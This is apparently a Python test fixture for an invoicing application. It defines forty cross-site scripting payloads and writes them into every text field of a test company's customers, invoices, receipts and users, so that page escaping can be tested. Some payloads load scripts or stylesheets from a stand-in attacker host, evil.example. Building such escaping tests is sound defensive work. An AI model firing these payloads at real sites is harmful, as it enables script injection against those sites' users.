"""Forty ways to turn a name into a script, and a company whose every text is one of them.

`boom` is what each would run. They are stored without asking the forms, which would refuse some of them: what
is shown must be harmless whatever is stored.
"""

from itertools import cycle

from rms.db.session import db
from rms.models import Company, NumberSeries, Tenant, User
from tests import cast, factories

PAYLOADS = [
    "<script>boom()</script>",
    "<ScRiPt>boom()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>boom()</script>",
    "</textarea><script>boom()</script>",
    "</script><script>boom()</script>",
    "--><script>boom()</script>",
    "<img src=x onerror=boom()>",
    '"><img src=x onerror=boom()>',
    "'><img src=x onerror=boom()>",
    '" onmouseover="boom()" x="',
    "' onmouseover='boom()' x='",
    '" autofocus onfocus=boom() x="',
    "` onmouseover=boom() `",
    "<svg onload=boom()>",
    "<svg><script>boom()</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x></svg>",
    "<math><mtext><img src=x onerror=boom()></mtext></math>",
    "<body onload=boom()>",
    "<iframe src=javascript:boom()>",
    "<iframe srcdoc='<script>parent.boom()</script>'>",
    "<object data=javascript:boom()>",
    "<embed src=javascript:boom()>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:boom()'>",
    "<form action=javascript:boom()><button>Go</button></form>",
    "<a href=javascript:boom()>here</a>",
    "javascript:boom()",
    "JaVaScRiPt:boom()//",
    "data:text/html,<script>boom()</script>",
    "<style>*{background:url(javascript:boom())}</style>",
    "<div style=background:url(javascript:boom())>",
    "<div hx-get=/logout hx-trigger=load hx-on:load=boom()>",
    "<hx-partial hx-target=body><script>boom()</script></hx-partial>",
    "<details open ontoggle=boom()>",
    "<template><script>boom()</script></template>",
    "{{ 7 * 7 }}{% raw %}<script>boom()</script>{% endraw %}",
    "%(name)s<script>boom()</script>",
    "&lt;script&gt;boom()&lt;/script&gt;&#60;img src=x onerror=boom()&#62;",
]


def fill(company: cast.Company) -> dict[str, object]:
    """Write a payload into everything that is text, all forty on each list; gives ids for the pages."""
    with company.scope(company.admin):
        _the_company_itself(company)
        for number, text in enumerate(PAYLOADS):
            customer = factories.make_customer(text, contact_person=text, address_line1=text, city=text[:100])
            factories.make_service(text, description=text)
            invoice = factories.make_invoice(
                customer,
                notes=text,
                reference_number=text[:100],
                seller_snapshot=dict.fromkeys(("name", "trade_name", "address_line1", "bank_name"), text),
                buyer_snapshot=dict.fromkeys(("name", "contact_person", "address_line1", "code"), text),
            )
            receipt = factories.make_receipt(customer, "500.00", notes=text, reference=text[:100])
            factories.make_allocation(receipt, invoice, "100.00")
            draft = factories.make_draft(customer, notes=text, reference_number=text[:100])
            line = factories.make_line(draft, name=text, description=text)
            line.raw_input, line.is_valid = {"quantity": text, "name": text}, False
            factories.make_invitation(f"n{number}@example.in", by=company.admin.id)
        db().flush()
        return {
            "customer_id": customer.id,
            "invoice_id": draft.id,
            "issued_id": invoice.id,
            "receipt_id": receipt.id,
        }


def _the_company_itself(company: cast.Company) -> None:
    texts = cycle(PAYLOADS)
    for user in db().query(User):
        user.first_name, user.last_name = next(texts)[:100], next(texts)[:100]
    seller = db().query(Company).one()
    for column in ("name", "trade_name", "address_line1", "bank_name", "signatory_name", "contact_name"):
        setattr(seller, column, next(texts)[:100])
    db().get(Tenant, company.tenant_id).name = next(texts)
    for series in db().query(NumberSeries):
        series.name = next(texts)
